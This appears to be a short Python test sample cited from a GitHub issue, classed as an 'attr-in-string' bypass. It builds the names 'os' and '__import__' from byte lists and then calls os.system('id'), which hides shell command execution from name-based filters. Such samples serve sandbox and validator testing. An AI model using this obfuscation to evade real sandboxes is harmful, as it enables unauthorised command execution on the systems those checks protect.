# Source: https://github.com/VectorlyApp/bluebox/issues/126
# Family: attr-in-string
# What: module name and attribute built from bytes at runtime
name = bytes([111, 115]).decode()
imp = vars(__builtins__)[bytes([95, 95, 105, 109, 112, 111, 114, 116, 95, 95]).decode()]
imp(name).system("id")
